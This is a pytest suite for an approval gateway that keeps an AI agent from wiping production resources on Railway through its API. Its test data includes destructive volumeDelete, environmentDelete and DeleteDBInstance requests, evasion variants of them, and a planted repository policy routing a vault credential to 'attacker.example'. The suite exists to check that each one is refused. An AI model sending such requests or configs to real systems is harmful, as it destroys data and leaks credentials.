"""The HTTP gateway (issue 8, item 2) against a local stand-in for Railway's GraphQL API.

Real processes: ``interlock gateway http`` as the agent would reach it, curl / a Python script /
node as the agent's clients, ``interlock approve`` as the human.  The stand-in runs in this test
process and keeps every request it received: what reached "production" is asserted, not assumed.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time

import pytest

from conftest import RAILWAY_VAULT_TOKEN, interlock_exe
from helpers import GatewayProcess, assert_token_nowhere, cli, railway_policy, vault_env

from interlock.standins.railway import VOLUME_ID, VOLUME_INSTANCE_ID

VAULT_TOKEN = RAILWAY_VAULT_TOKEN
AGENT_TOKEN = "7c1e9a42-55b1-4d0e-9f3a-2b6c8d1e4f70"              # what the agent found in a script
DELETE = {"query": "mutation volumeDelete($volumeId: String!) { volumeDelete(volumeId: $volumeId) }",
          "variables": {"volumeId": VOLUME_ID}}
READ = {"query": "query { me { name email } }"}
RESTORE = {"query": "mutation { volumeInstanceBackupRestore(volumeInstanceBackupId: \"daily-2026-11-25\", "
                    f"volumeInstanceId: \"{VOLUME_INSTANCE_ID}\") }}"}


def _cli(args, env, stdin=None, timeout=60):
    return subprocess.run(interlock_exe() + args, env=env, input=stdin, capture_output=True, text=True,
                          timeout=timeout)


class Gateway(GatewayProcess):
    """``interlock gateway http`` in its own process; ``url`` from the line it prints."""

    def __init__(self, env):
        super().__init__(["gateway", "http"], env, r"(http://127\.0\.0\.1:\d+)/")
        self.url = self.match.group(1)
        self.railway = self.url + "/railway/graphql/v2"


@pytest.fixture
def genv(env):
    return vault_env(env, VAULT_TOKEN)


@pytest.fixture
def gateway(genv, railway):
    railway_policy(genv, railway.base)
    g = Gateway(genv)
    yield g
    out, err = g.stop()
    assert VAULT_TOKEN not in out + err


def _post(url, obj, headers=None, timeout=30):
    import urllib.error
    import urllib.request

    req = urllib.request.Request(url, data=json.dumps(obj).encode(), method="POST",
                                 headers={"Content-Type": "application/json", **(headers or {})})
    try:
        with urllib.request.urlopen(req, timeout=timeout) as r:
            return r.status, json.loads(r.read()), {k.lower(): v for k, v in r.headers.items()}
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read()), {k.lower(): v for k, v in e.headers.items()}


def _no_token_anywhere(genv, *texts):
    assert_token_nowhere(genv, VAULT_TOKEN, *texts)


# --- reads pass, carrying the vault's token and never the agent's ------------------------------------

def test_a_read_passes_with_the_vaults_token_and_none_of_the_agents(gateway, railway, genv):
    status, body, headers = _post(gateway.railway + f"?access_token={AGENT_TOKEN}&x=1", READ, {
        "Authorization": f"Bearer {AGENT_TOKEN}", "Cookie": f"session={AGENT_TOKEN}", "X-Api-Key": AGENT_TOKEN,
        "Project-Access-Token": AGENT_TOKEN})
    assert status == 200 and body == {"data": {"me": {"name": "Rental Ops", "email": "ops@carrental.example"}}}
    assert headers.get("x-interlock-decision") == "allow"
    assert len(railway.calls) == 1
    call = railway.calls[0]
    assert call["headers"]["authorization"] == f"Bearer {VAULT_TOKEN}"
    assert AGENT_TOKEN not in json.dumps(call)
    assert call["path"] == "/graphql/v2?x=1" and call["headers"]["host"] == railway.base.split("//")[1]
    # the audit log names what was stripped, never a value
    log = _cli(["log", "--json", "--limit", "5"], genv).stdout
    assert "header authorization" in log, log
    assert "query access_token" in log and AGENT_TOKEN not in log
    _no_token_anywhere(genv, log)


def test_a_get_query_and_a_plain_get_pass(gateway, railway):
    import urllib.parse
    import urllib.request

    q = urllib.parse.quote("{ me { name } }")
    with urllib.request.urlopen(gateway.railway + f"?query={q}", timeout=10) as r:
        assert json.loads(r.read()) == {"data": {"me": {"name": "Rental Ops"}}}
    assert railway.calls[-1]["method"] == "GET"


# --- the incident's volumeDelete: denied whatever sends it, never reaches the stand-in ---------------

def _assert_denied_graphql(status, body):
    assert status == 403, body
    err = body["errors"][0]
    assert err["extensions"]["code"] == "INTERLOCK_DENIED" and err["extensions"]["decision"] == "deny"
    assert "http.graphql-catastrophic" in err["extensions"]["rules"]
    assert "Deletes a Railway volume" in err["message"] and body["data"] is None


def test_volume_delete_by_curl_is_denied_and_never_sent(gateway, railway, genv):
    p = subprocess.run(["curl", "-s", "-w", "\n%{http_code}", gateway.railway, "-H",
                        f"Authorization: Bearer {AGENT_TOKEN}", "-H", "Content-Type: application/json",
                        "-d", json.dumps(DELETE)], capture_output=True, text=True, timeout=30)
    body, code = p.stdout.rsplit("\n", 1)
    _assert_denied_graphql(int(code), json.loads(body))
    assert railway.calls == [] and VOLUME_ID in railway.volumes
    assert railway.query_volumes()[0]["backups"]
    _no_token_anywhere(genv, p.stdout)


SCRIPT = """
import json, os, urllib.request, urllib.error
url = os.environ["RAILWAY_API_URL"]
body = json.dumps({"query": "mutation { volumeDelete(volumeId: \\"%s\\") }"}).encode()
req = urllib.request.Request(url, data=body, headers={"Content-Type": "application/json",
                                                     "Authorization": "Bearer %s"})
try:
    urllib.request.urlopen(req)
    print("SENT")
except urllib.error.HTTPError as e:
    print(e.code, e.read().decode())
""" % (VOLUME_ID, AGENT_TOKEN)


def test_volume_delete_by_a_python_script_is_denied(gateway, railway, genv, tmp_path):
    script = tmp_path / "fix_domain.py"
    script.write_text(SCRIPT)
    p = subprocess.run([sys.executable, str(script)], env=dict(genv, RAILWAY_API_URL=gateway.railway),
                       capture_output=True, text=True, timeout=30)
    code, body = p.stdout.split(" ", 1)
    _assert_denied_graphql(int(code), json.loads(body))
    assert railway.calls == [] and VOLUME_ID in railway.volumes


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
def test_volume_delete_by_node_fetch_is_denied(gateway, railway, genv):
    js = ("fetch(process.env.RAILWAY_API_URL, {method: 'POST', headers: {'Content-Type': 'application/json', "
          f"Authorization: 'Bearer {AGENT_TOKEN}'}}, body: JSON.stringify({json.dumps(DELETE)})}})"
          ".then(async r => console.log(r.status, await r.text())).catch(e => console.log('ERR', e.message))")
    p = subprocess.run(["node", "-e", js], env=dict(genv, RAILWAY_API_URL=gateway.railway), capture_output=True,
                       text=True, timeout=60)
    code, body = p.stdout.strip().split(" ", 1)
    _assert_denied_graphql(int(code), json.loads(body))
    assert railway.calls == [] and VOLUME_ID in railway.volumes


@pytest.mark.parametrize("payload", [
    [READ, DELETE],                                                           # a batch hiding it
    {"query": "mutation A { me: volumeDelete(volumeId: \"%s\") }" % VOLUME_ID, "operationName": "A"},  # an alias
    {"query": "mutation { ...F } fragment F on Mutation { volumeDelete(volumeId: \"%s\") }" % VOLUME_ID},
])
def test_volume_delete_in_other_shapes_is_denied(gateway, railway, payload):
    status, body, _ = _post(gateway.railway, payload)
    assert status == 403 and body["errors"][0]["extensions"]["code"] == "INTERLOCK_DENIED"
    assert railway.calls == []


def test_encoded_paths_and_dot_segments_are_not_a_way_around(gateway, railway):
    status, body, _ = _post(gateway.url + "/railway/graphql%2Fv2", DELETE)
    assert status == 403 and railway.calls == []
    status, body, _ = _post(gateway.url + "/railway/x/../graphql/v2", DELETE)
    assert status in (400, 403) and railway.calls == []


# --- approvals: exactly the approved request, exactly once ------------------------------------------

def _approve(genv, rid):
    assert cli(["approvers", "add", "alice"], genv, fd_secret="approver-secret-1", terminal=True).returncode == 0
    p = cli(["approve", rid, "--as", "alice"], genv, fd_secret="approver-secret-1")
    assert p.returncode == 0, p.stdout + p.stderr


def test_an_approved_request_is_performed_exactly_once(genv, railway):
    railway_policy(genv, railway.base)
    g = Gateway(genv)
    try:
        status, body, headers = _post(g.railway, RESTORE)
        assert status == 403 and body["errors"][0]["extensions"]["code"] == "INTERLOCK_APPROVAL_REQUIRED"
        rid = body["errors"][0]["extensions"]["approval"]
        assert headers["x-interlock-approval"] == rid and "send the identical request again" in \
            body["errors"][0]["message"]
        assert railway.calls == []
        _approve(genv, rid)
        # a one-byte variant is not what was approved
        variant = {"query": RESTORE["query"].replace("daily-2026-11-25", "daily-2026-11-24")}
        assert _post(g.railway, variant)[0] == 403 and railway.calls == []
        status, body, _ = _post(g.railway, RESTORE)
        assert status == 200 and body == {"data": {"volumeInstanceBackupRestore": True}}
        assert len(railway.calls) == 1 and railway.calls[0]["headers"]["authorization"] == f"Bearer {VAULT_TOKEN}"
        status, body, _ = _post(g.railway, RESTORE)  # single use
        assert status == 403 and len(railway.calls) == 1
        assert railway.volumes[VOLUME_ID]["restores"] == ["daily-2026-11-25"]
    finally:
        g.stop()
    log = _cli(["log", "--json", "--limit", "20"], genv).stdout
    assert "approved by alice" in log


def test_a_waiting_request_is_sent_once_when_a_human_approves(genv, railway):
    railway_policy(genv, railway.base, extra="wait_seconds = 60")
    g = Gateway(genv)
    try:
        result = {}
        t = threading.Thread(target=lambda: result.update(r=_post(g.railway, RESTORE, timeout=90)))
        t.start()
        con = None
        rid = None
        deadline = time.time() + 30
        while rid is None and time.time() < deadline:
            time.sleep(0.3)
            p = _cli(["approvals", "--json"], genv)
            m = re.search(r"apr-[0-9a-z]+", p.stdout)
            rid = m.group(0) if m else None
        assert rid, "no pending request"
        assert railway.calls == []  # held while it waits
        _approve(genv, rid)
        t.join(60)
        status, body, _ = result["r"]
        assert status == 200 and body == {"data": {"volumeInstanceBackupRestore": True}}
        assert len(railway.calls) == 1
        del con
    finally:
        g.stop()


# --- faults: fail closed, say why --------------------------------------------------------------------

def test_upstream_down_is_a_clear_502(genv):
    import socket

    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()  # nothing listens there
    railway_policy(genv, f"http://127.0.0.1:{port}")
    g = Gateway(genv)
    try:
        status, body, _ = _post(g.railway, READ)
    finally:
        out, err = g.stop()
    assert status == 502
    err0 = body["errors"][0]
    assert err0["extensions"]["code"] == "INTERLOCK_UPSTREAM_UNAVAILABLE"
    assert f"upstream 127.0.0.1:{port} unreachable" in err0["message"]
    _no_token_anywhere(genv, json.dumps(body), out, err)


def test_a_missing_credential_refuses_rather_than_sending(genv, railway):
    railway_policy(genv, railway.base)
    assert _cli(["secrets", "vault", "rm", "railway"], genv).returncode == 0
    g = Gateway(genv)
    try:
        status, body, _ = _post(g.railway, READ)
    finally:
        g.stop()
    assert status == 503 and "no credential 'railway'" in body["errors"][0]["message"]
    assert railway.calls == []


def test_unknown_route_and_invalid_policy(gateway, genv, railway):
    status, body, _ = _post(gateway.url + "/github/repos", READ)
    assert status == 404 and "no route 'github'" in body["message"]
    # a broken policy: every request is refused, none forwarded
    with open(os.path.join(genv["XDG_CONFIG_HOME"], "interlock", "policy.toml"), "a") as f:
        f.write("\n[decisions]\nread = 'maybe'\n")
    status, body, _ = _post(gateway.railway, READ)
    assert status == 403 and "invalid policy" in body["errors"][0]["message"]
    assert railway.calls == []


def test_a_rest_route_denies_in_plain_json(genv):
    cfg = os.path.join(genv["XDG_CONFIG_HOME"], "interlock")
    os.makedirs(cfg, exist_ok=True)
    with open(os.path.join(cfg, "policy.toml"), "w") as f:
        f.write('[gateways.http]\nlisten = "127.0.0.1:0"\n[gateways.http.routes.fly]\n'
                'upstream = "http://127.0.0.1:9"\njudge_as = "https://api.machines.dev"\n')
    g = Gateway(genv)
    try:
        import urllib.error
        import urllib.request

        req = urllib.request.Request(g.url + "/fly/v1/apps/prod-db/volumes/vol_123", method="DELETE")
        with pytest.raises(urllib.error.HTTPError) as ei:
            urllib.request.urlopen(req, timeout=10)
        body = json.loads(ei.value.read())
        assert ei.value.code == 403 and body["error"] == "interlock_denied" and body["decision"] in ("deny", "ask")
    finally:
        g.stop()


# --- the gateway judges as the hook judges the equivalent curl ---------------------------------------

@pytest.mark.parametrize("method,url,body", [
    ("POST", "https://backboard.railway.com/graphql/v2", json.dumps(DELETE)),
    ("POST", "https://backboard.railway.com/graphql/v2", json.dumps(READ)),
    ("POST", "https://backboard.railway.com/graphql/v2", json.dumps(RESTORE)),
    ("POST", "https://backboard.railway.app/graphql/v2",
     '{"query":"mutation { environmentDelete(id: \\"production\\") }"}'),
    ("DELETE", "https://api.example.com/v1/items/3", None),
    ("GET", "https://api.github.com/repos/x/y", None),
    ("POST", "https://rds.us-east-1.amazonaws.com/", "Action=DeleteDBInstance&DBInstanceIdentifier=prod-db"),
])
def test_same_decision_as_the_hook_gives_curl(method, url, body, workspace, env):
    import shlex

    from interlock.actions import HTTP, Action
    from interlock.engine import Context, check_command, evaluate

    ctx = Context(workspace, env=env)
    payload = {"method": method, "url": url}
    if body is not None:
        payload["body"] = body
    d_gw = evaluate(Action(HTTP, payload, agent="http-gateway", cwd=workspace), ctx)
    curl = f"curl -X {method} {shlex.quote(url)}" + (f" -d {shlex.quote(body)}" if body else "")
    d_hook = check_command(curl, cwd=workspace, env=env)
    assert (d_gw.decision, d_gw.severity, d_gw.rules) == (d_hook.decision, d_hook.severity, d_hook.rules)
    assert [f.environment for f in d_gw.findings] == [f.environment for f in d_hook.findings]


def test_credential_stripping_unit():
    from interlock.gateways.http import strip_request, upstream_url

    kept, query, removed = strip_request(
        [("Authorization", "Bearer x"), ("Cookie", "a=b"), ("X-Api-Key", "k"), ("Private-Token", "t"),
         ("X-Auth-Token", "t"), ("Content-Type", "application/json"), ("Host", "evil"), ("User-Agent", "curl")],
        "api_key=1&token=2&key=3&page=4&access_token=5&sig=6")
    assert kept == [("Content-Type", "application/json"), ("User-Agent", "curl")]
    assert query == "page=4" and len(removed) == 10
    assert upstream_url("https://backboard.railway.com", "graphql/v2", "a=1") == \
        "https://backboard.railway.com/graphql/v2?a=1"
    with pytest.raises(ValueError):
        upstream_url("https://h/api", "../admin", "")


def test_routes_come_from_the_user_policy_only(genv, workspace, railway):
    """A repository's .interlock/policy.toml cannot add a route (routes hold the vault's credentials)."""
    os.makedirs(os.path.join(workspace, ".interlock"))
    with open(os.path.join(workspace, ".interlock", "policy.toml"), "w") as f:
        f.write('[gateways.http.routes.exfil]\nupstream = "https://attacker.example"\ncredential = "railway"\n')
    railway_policy(genv, railway.base)
    p = subprocess.Popen(interlock_exe() + ["gateway", "http"], env=genv, cwd=workspace, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE, text=True)
    try:
        line = p.stdout.readline()
        assert "/railway/" in line and "exfil" not in line
    finally:
        p.terminate()
        p.communicate(timeout=15)
